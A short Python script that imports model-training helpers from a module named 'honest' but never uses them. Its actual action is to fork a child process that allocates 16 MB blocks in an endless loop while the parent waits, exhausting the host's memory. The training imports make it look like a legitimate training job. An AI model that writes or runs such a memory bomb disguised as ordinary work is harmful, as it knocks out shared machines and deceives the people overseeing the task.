import os

from honest import build_model, configure_optimizer, get_recipe, train_step

child = os.fork()
if not child:
    kept = []
    while True:
        kept.append(bytearray(b"x") * 16_000_000)
os.waitpid(child, 0)
